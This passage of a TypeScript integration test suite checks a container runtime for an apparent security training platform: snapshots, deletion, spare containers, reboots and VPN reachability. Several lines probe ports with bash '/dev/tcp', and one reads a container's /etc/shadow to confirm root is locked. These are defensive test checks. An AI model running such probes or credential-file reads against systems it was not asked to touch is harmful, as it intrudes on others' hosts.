    const { sizeBytes } = await runtime!.snapshotBox(aliceBox.id, snapshotId);
    expect(sizeBytes).to.be.above(0);
    // The box ran on while its disk was read, and it still writes.
    expect(
      (await asAlice('echo after > /root/written-after-snapshot && cat /root/written-after-snapshot')).trim(),
    ).to.equal('after');

    // A reset takes the disk; the snapshot stays.
    await runtime!.deleteBox(aliceBox.id);
    await runtime!.restoreBox(aliceBox.id, snapshotId);
    expect((await runtime!.applyBox({ ...aliceBox, power: false })).phase).to.equal('STOPPED');
    await runtime!.applyBox(aliceBox);
    await waitPhase(aliceBox, 'RUNNING', ['PROVISIONING'], 40_000);
    const seen = await until(
      'ssh after the restore',
      () =>
        asAlice(
          [
            'stat -c "%U %a" /home/hardener/note',
            'cat /home/hardener/note',
            'test -e /etc/motd && echo motd || echo no-motd',
            'getcap /usr/local/bin/capped',
            'test -d /etc/skel-moved && test ! -e /etc/skel && echo moved',
            'test -e /root/written-after-snapshot && echo after || echo no-after',
            'hostname',
            'cat /etc/ssh/ssh_host_ed25519_key.pub',
          ].join('; '),
        ).catch(() => undefined),
      15_000,
      500,
    );
    expect(seen.trim().split('\n')).to.deep.equal([
      'hardener 600',
      'hardened',
      'no-motd',
      '/usr/local/bin/capped cap_net_bind_service=ep',
      'moved',
      'no-after',
      'alice-box',
      // Restored, not provisioned again: the ssh host key it had.
      hostKey,
    ]);
    await runtime!.deleteSnapshot(aliceBox.id, snapshotId);
    const gone = await runtime!.restoreBox(aliceBox.id, snapshotId).then(
      () => null,
      (err: Error) => err,
    );
    expect(gone, 'a deleted snapshot').to.be.instanceOf(Error);
  });

  it('counts a booted box as RUNNING though nothing listens on port 22', async () => {
    // Box root moves sshd away: the box is still booted (and billed).
    const init = await containerInit(boxDir(bobBox));
    await execFileAsync('nsenter', [
      '-t',
      String(init),
      '-a',
      'systemctl',
      'stop',
      'ssh.service',
      'ssh.socket',
    ]);
    await until(
      'sshd to stop listening',
      async () => !(await runtime!.applyBox(bobBox)).openPorts['22'],
      10_000,
    );
    const observed = await runtime!.applyBox(bobBox);
    expect(observed.phase).to.equal('RUNNING');
    expect(observed.openPorts).to.not.have.property('22');
  });

  it('deletes a box: its directory, cgroups and mounts are gone', async () => {
    const dir = boxDir(bobBox);
    expect(existsSync(dir)).to.equal(true);
    await runtime!.deleteBox(bobBox.id);
    expect(existsSync(dir)).to.equal(false);
    expect(await runtime!.boxIds()).to.deep.equal([aliceBox.id]);
    expect(await mountsUnder(dir)).to.deep.equal([]);
    await until('the disk’s loop device to go', async () => (await loopDevicesOf(dir)).length === 0, 5000);
    expect(await nspawnPids(dir)).to.deep.equal([]);
    expect((await cgroupDirs(cgroupGroup)).filter((d) => d.includes(machineName(bobBox)))).to.deep.equal([]);
    await until(
      'the box port to leave the bridge',
      async () => !(await routerHasLink(`vb-${machineName(bobBox)}`)),
      5000,
    );
    // Idempotent.
    await runtime!.deleteBox(bobBox.id);
    // Alice's box is untouched.
    expect((await runtime!.applyBox(aliceBox)).phase).to.equal('RUNNING');
  });

  it('keeps spares booted with their loadouts at the next free slots; a new box takes one over at once', async function () {
    this.timeout(240_000);
    const boxes = path.join(dataDir, 'boxes');
    const spare = (slot: number) => path.join(boxes, `.spare-${slot}`);
    runtime!.prepareSpares([aliceBox.slot, bobBox.slot]);
    await until(
      'two spares, booted and installed',
      async () => existsSync(path.join(spare(0), 'ready')) && existsSync(path.join(spare(1), 'ready')),
      180_000,
      250,
    );
    // Nobody can log in to a spare: root is locked and has no key; nobody reaches it either.
    const spareShadow = await readFile(path.join(spare(0), 'root/etc/shadow'), 'utf8');
    expect(spareShadow).to.match(/^root:\*:/m);
    expect(existsSync(path.join(spare(0), 'root/root/.ssh/authorized_keys'))).to.equal(false);
    const loadout = await runtime!.spareLoadout(0);
    expect(loadout, 'the spare’s loadout').to.have.length(POOL_LOADOUT.in + POOL_LOADOUT.up);
    expect(await runtime!.spareLoadout(5), 'no spare at slot 5').to.equal(null);

    // A box made at slot 0 with the spare's loadout, not started yet: the spare waits for it.
    const newcomer: BoxSpec = {
      ...aliceBox,
      id: randomUUID(),
      ownerId: randomUUID(),
      slot: 0,
      hostname: 'new-box',
      rootPassword: `new-${randomBytes(6).toString('hex')}`,
      sshPublicKey: ownerPublicKey,
      loadout: loadout!,
      power: false,
      resources: { ...resources, memoryMiB: 320 },
    };
    expect((await runtime!.applyBox(newcomer)).phase).to.equal('STOPPED');
    expect(existsSync(path.join(boxDir(newcomer), 'disk.img')), 'a disk before the first start').to.equal(
      false,
    );
    // A box made at slot 1 and deleted unstarted leaves the spare there running.
    const passing: BoxSpec = { ...newcomer, id: randomUUID(), slot: 1, hostname: 'gone-box' };
    await runtime!.applyBox(passing);
    await runtime!.deleteBox(passing.id);
    expect(await cgroupProcs(cgroupGroup, `${prefix}-b1`), 'the spare at slot 1').to.not.deep.equal([]);
    const spareInit = await containerInit(spare(0));
    // Not even its future owner reaches it: the router knows no port of a box before its first start.
    const address = runtime!.boxAddress(0);
    const sshdAnswers = () =>
      execFileAsync('nsenter', [
        `--net=${runtime!.router.namespacePath}`,
        'timeout',
        '2',
        'bash',
        '-c',
        `exec 3<>/dev/tcp/${address}/22`,
      ]).then(
        () => true,
        () => false,
      );
    expect(await sshdAnswers(), 'the spare’s sshd from the router').to.equal(false);

    // Its first start takes the spare over: running at once, as the box, with the spare's services.
    const started = await runtime!.applyBox({ ...newcomer, power: true });
    expect(started.phase, started.reason ?? '').to.equal('RUNNING');
    expect(existsSync(spare(0)), 'the spare once taken').to.equal(false);
    expect(await containerInit(boxDir(newcomer)), 'the same running box').to.equal(spareInit);
    expect(existsSync(path.join(boxDir(newcomer), 'disk.img'))).to.equal(true);
    expect((await readFile(path.join(boxDir(newcomer), 'slot'), 'utf8')).trim()).to.equal('0');
    // At the first try, whatever the router learnt of the address before.
    expect(await sshdAnswers(), 'the box’s sshd once it is the box').to.equal(true);
    const asRoot = (command: string, auth: { password: string } | { keyFile: string }) =>
      routerSsh(runtime!.router.namespacePath, address, command, auth);
    expect(await asRoot('hostname; cat /etc/hostname', { password: newcomer.rootPassword })).to.equal(
      'new-box\nnew-box\n',
    );
    expect(await asRoot('hostname', { keyFile: ownerKey })).to.equal('new-box\n');
    expect(
      await asRoot('test -d /var/lib/exploit-grid/loadout || echo installed', { keyFile: ownerKey }),
    ).to.equal('installed\n');
    // The box's own limits, not the spare's.
    expect(await memoryLimitOf(cgroupGroup, `${prefix}-b0`)).to.equal(
      newcomer.resources.memoryMiB * 1024 * 1024,
    );

    // A reboot from inside comes back as the same box (its launcher followed the directory).
    await asRoot('systemctl reboot', { keyFile: ownerKey }).catch(() => undefined);
    await until(
      'the box back after its reboot',
      async () => {
        const observed = await runtime!.applyBox({ ...newcomer, power: true });
        expect(observed.phase, observed.reason ?? '').to.be.oneOf(['RUNNING', 'PROVISIONING']);
        if (observed.phase !== 'RUNNING' || !observed.openPorts['22']) return undefined;
        return (await containerInit(boxDir(newcomer))) !== spareInit ? true : undefined;
      },
      60_000,
      250,
    );
    expect(await asRoot('hostname', { keyFile: ownerKey })).to.equal('new-box\n');

    // A box whose loadout is not the spare's boots from nothing; the spare goes.
    const other: BoxSpec = {
      ...newcomer,
      id: randomUUID(),
      ownerId: randomUUID(),
      slot: 1,
      hostname: 'cold-box',
      loadout: [],
      power: true,
    };
    await waitPhase(other, 'RUNNING', ['PROVISIONING']);
    expect(existsSync(spare(1)), 'the spare that did not fit').to.equal(false);
    expect(await runtime!.spareLoadout(1)).to.equal(null);

    // Refilled at the next free slots, never at a box's.
    runtime!.prepareSpares([0, 1, aliceBox.slot, bobBox.slot]);
    await until('a spare at slot 2', async () => existsSync(path.join(spare(2), 'ready')), 180_000, 250);
    for (const box of [newcomer, other]) {
      expect((await runtime!.applyBox({ ...box, power: true })).phase).to.equal('RUNNING');
      await runtime!.deleteBox(box.id);
      expect(existsSync(boxDir(box))).to.equal(false);
    }
  });

  describe('keeps the box runtime contract (the one the API tests’ double keeps)', () => {
    // Dave, a player of his own (Bob is revoked by now), connects from Bob's computer.
    const dave = randomUUID();
    let daveConfig: string;
    let daveSerial: string;
    const contractBox: BoxSpec = {
      ...aliceBox,
      id: randomUUID(),
      slot: 9,
      hostname: 'contract-box',
      agentToken: null,
      loadout: [],
    };
    const computerOf = (userId: string) => (userId === users.alice ? alice : bob);
    /** The contract's players' VPN clients (Alice's from the tests above). */
    const clientOf = new Map<string, VpnClient>();
    const configOf = (userId: string) =>
      userId === dave ? daveConfig : userId === users.alice ? configs.alice : configs.carol;

    before(async () => {
      clientOf.set(users.alice, aliceVpn);
      const identity = await runtime!.issueVpnIdentity(dave);
      daveSerial = identity.serialNumber;
      daveConfig = path.join(tmp!, 'dave.ovpn');
      await writeFile(daveConfig, runtime!.vpnClientConfig('UDP', identity, 'dave'), { mode: 0o600 });
    });

    orchestratorContract(() => ({
      orchestrator: runtime!,
      owner: users.alice,
      other: dave,
      refused: users.carol,
      box: contractBox,
      connect: async (userId) => {
        const live = session(userId);
        if (live) return live;
        const client = new VpnClient(computerOf(userId).name, configOf(userId));
        clientOf.set(userId, client);
        for (let i = 0; i < 100; i++) {
          const admitted = session(userId);
          if (admitted) return admitted;
          if (client.log.includes('AUTH_FAILED')) {
            await client.stop();
            return null;
          }
          await sleep(200);
        }
        throw new Error(`the VPN client of ${userId} neither connected nor was refused:\n${client.log}`);
      },
      disconnect: async (userId) => {
        await clientOf.get(userId)?.stop();
        clientOf.delete(userId);
        await until('the session to end', async () => session(userId) === undefined, 10_000);
      },
      reaches: (userId) => computerOf(userId).canConnect(ip(contractBox), 22, 2),
      holdSsh: async (userId) => {
        // bash opens the connection, then becomes the sleep that holds it: killing it closes the connection.
        const holder = spawn(
          'ip',
          [
            'netns',
            'exec',
            computerOf(userId).name,
            'bash',
            '-c',
            'exec 3<>"/dev/tcp/$0/$1" && exec sleep 60',
            ip(contractBox),
            '22',
          ],
          { stdio: 'ignore' },
        );
        return async () => {
          holder.kill('SIGKILL');
        };
      },
      reachedFromBox: async (userId) => {
        const vpnAddress = session(userId)?.vpnAddress;
        if (!vpnAddress) return false;
        const port = await freePort();
        const listener = spawn(
          'ip',
          [
            'netns',
            'exec',
            computerOf(userId).name,
            process.execPath,
            '-e',
            "require('node:net').createServer((s) => s.end()).listen(Number(process.argv[1]), '0.0.0.0')",
            String(port),
          ],
          { stdio: 'ignore' },
        );
        try {
          await until('the listener', () => tcpConnects(computerOf(userId).clientAddress, port), 10_000);
          const out = await alice.ssh(
            ip(contractBox),
            'timeout 2 bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null && echo open || echo closed',
            { password: contractBox.rootPassword },
            [vpnAddress, String(port)],
          );
          return out.trim() === 'open';
        } finally {
          listener.kill('SIGKILL');
        }
      },
      serialOf: (userId) => (userId === dave ? daveSerial : identities.alice!.serialNumber),
      powerOffInside: () =>
        alice.ssh(ip(contractBox), 'systemctl poweroff', { password: contractBox.rootPassword }).then(
          () => undefined,
          () => undefined /* the connection may end with the box */,
        ),
      crash: async () => {
        process.kill(await nspawnMain(boxDir(contractBox)), 'SIGKILL');
      },
      bootMs: 40_000,
    }));
  });

  async function routerHasLink(name: string): Promise<boolean> {
    return execFileAsync('ip', ['-n', `${prefix}-router`, 'link', 'show', name]).then(
      () => true,
      () => false,
    );
  }

  async function processesIn(spec: BoxSpec): Promise<number[]> {
    return [
      ...(await cgroupProcs(cgroupGroup, machineName(spec))),
      ...(await processesMatching((argv) => argv.some((arg) => arg.includes(boxDir(spec))))).map(
        (p) => p.pid,
      ),
    ];
  }
});

// ---- host helpers ------------------------------------------------------------------------------

const CGROUP_ROOT = '/sys/fs/cgroup';
const UNIFIED = existsSync(path.join(CGROUP_ROOT, 'cgroup.controllers'));

const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

/** Polls `fn` until it answers something truthy; fails after `timeoutMs`. */
async function until<T>(
  what: string,
  fn: () => Promise<T | undefined | null | false>,
  timeoutMs = 10_000,
  intervalMs = 200,
): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await fn();
    if (value) return value;
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await sleep(intervalMs);
  }
}

/** A third octet n for 10.203.n.0/28 that no host interface uses yet. */
async function freeHostOctet(): Promise<number> {
  const { stdout } = await execFileAsync('ip', ['-4', '-o', 'address']);
  for (let i = 0; i < 50; i++) {
    const n = randomBytes(1)[0]!;
    if (!stdout.includes(`10.203.${n}.`)) return n;
  }
  throw new Error('no free 10.203.x.0/28 on this host');
}

const freePort = freeTcpUdpPort;

function tcpConnects(host: string, port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: 1000 });
    socket.once('connect', () => {
      socket.destroy();
      resolve(true);
    });
    socket.once('timeout', () => {
      socket.destroy();
      resolve(false);
    });
    socket.once('error', () => resolve(false));
  });
}

function killQuietly(pid: number): void {
  try {
    process.kill(pid, 'SIGKILL');
  } catch {
    // gone already
  }
}

async function procStat(pid: number): Promise<{ comm: string; ppid: number } | null> {
  const text = await readFile(`/proc/${pid}/stat`, 'utf8').catch(() => null);
  if (!text) return null;
  const comm = text.slice(text.indexOf('(') + 1, text.lastIndexOf(')'));
  const ppid = Number(text.slice(text.lastIndexOf(')') + 2).split(' ')[1]);
  return { comm, ppid };
}

/** Processes whose command line matches. */
async function processesMatching(
  match: (argv: string[]) => boolean,
): Promise<{ pid: number; argv: string[] }[]> {
  const found: { pid: number; argv: string[] }[] = [];
  for (const entry of await readdir('/proc')) {
    if (!/^\d+$/.test(entry) || Number(entry) === process.pid) continue;
    const cmdline = await readFile(`/proc/${entry}/cmdline`, 'utf8').catch(() => '');
    if (!cmdline) continue;
    const argv = cmdline.split('\0').filter(Boolean);
    if (match(argv)) found.push({ pid: Number(entry), argv });
  }
  return found;
}

/** systemd-nspawn processes running the box in `boxDir` (its launcher's directory). */
async function nspawnPids(boxDir: string): Promise<number[]> {
  const found = await processesMatching(
    (argv) => path.basename(argv[0] ?? '') === 'systemd-nspawn' && argv.includes('--directory=root'),
  );
  const pids: number[] = [];
  for (const p of found)
    if ((await readlink(`/proc/${p.pid}/cwd`).catch(() => null)) === boxDir) pids.push(p.pid);
  return pids;
}

/** The memory limit of a box's cgroup (v2 or v1), in bytes. */
async function memoryLimitOf(group: string, machine: string): Promise<number> {
  const v2 = `/sys/fs/cgroup/${group}/${machine}/memory.max`;
  const text = existsSync(v2)
    ? await readFile(v2, 'utf8')
    : await readFile(`/sys/fs/cgroup/memory/${group}/${machine}/memory.limit_in_bytes`, 'utf8');
  return Number(text.trim());
}

/** Runs a command as root on a box over ssh from the router's namespace (where a box's owner comes from). */
async function routerSsh(
  namespacePath: string,
  address: string,
  command: string,
  auth: { password: string } | { keyFile: string },
): Promise<string> {
  const { stdout } = await execFileAsync(
    'nsenter',
    [`--net=${namespacePath}`, ...sshArgs(auth), `root@${address}`, command],
    {
      timeout: 20_000,
      env: { ...process.env, SSHPASS: 'password' in auth ? auth.password : '' },
    },
  );
  return stdout;
}

/** The box's main systemd-nspawn process (not a short-lived child of it). */
async function nspawnMain(boxDir: string): Promise<number> {
  const pids = await nspawnPids(boxDir);
  for (const pid of pids) {
    const parent = await procStat(pid);
    if (parent && !pids.includes(parent.ppid)) return pid;
  }
  throw new Error(`no systemd-nspawn runs ${boxDir}`);
}

/** The box's init (systemd, PID 1 inside), as a host pid. */
async function containerInit(boxDir: string): Promise<number> {
  const nspawn = await nspawnMain(boxDir);
  for (const entry of await readdir('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    const s = await procStat(Number(entry));
    if (s && s.ppid === nspawn && s.comm === 'systemd') return Number(entry);
  }
  throw new Error(`no init below systemd-nspawn ${nspawn}`);
}

/** Real, effective, saved and filesystem UID of a process. */
async function hostUids(pid: number): Promise<number[]> {
  const status = await readFile(`/proc/${pid}/status`, 'utf8');
  return status
    .match(/^Uid:\s+(.*)$/m)![1]!
    .trim()
    .split(/\s+/)
    .map(Number);
}

/** Mount points at or below `dir`. */
/** Loop devices whose backing file is under `dir`. */
async function loopDevicesOf(dir: string): Promise<string[]> {
  const devices: string[] = [];
  for (const device of await readdir('/sys/block')) {
    const backing = await readFile(`/sys/block/${device}/loop/backing_file`, 'utf8').catch(() => '');
    if (backing.startsWith(`${dir}/`)) devices.push(device);
  }
  return devices;
}

async function mountsUnder(dir: string): Promise<string[]> {
  const mounts = await readFile('/proc/self/mounts', 'utf8');
  return mounts
    .split('\n')
    .map((line) => (line.split(' ')[1] ?? '').replace(/\\040/g, ' '))
    .filter((mount) => mount === dir || mount.startsWith(`${dir}/`));
}

/** The cgroup directories of a group in every hierarchy (v1) or the unified one (v2). */
async function cgroupDirs(group: string): Promise<string[]> {
  const candidates = UNIFIED
    ? [path.join(CGROUP_ROOT, group)]
    : (await readdir(CGROUP_ROOT)).map((hierarchy) => path.join(CGROUP_ROOT, hierarchy, group));
  const found: string[] = [];
  const walk = async (dir: string): Promise<void> => {
    if (!existsSync(dir)) return;
    found.push(dir);
    for (const entry of await readdir(dir, { withFileTypes: true }).catch(() => []))
      if (entry.isDirectory()) await walk(path.join(dir, entry.name));
  };
  for (const dir of candidates) await walk(dir);
  return found;
}

/** Pids in a box's cgroup and below it (all hierarchies). */
async function cgroupProcs(group: string, machine: string): Promise<number[]> {
  const pids = new Set<number>();
  for (const dir of await cgroupDirs(group)) {
    if (!dir.includes(`/${group}/${machine}`)) continue;
    const text = await readFile(path.join(dir, 'cgroup.procs'), 'utf8').catch(() => '');
    for (const line of text.split('\n')) if (line) pids.add(Number(line));
  }
  return [...pids];
}
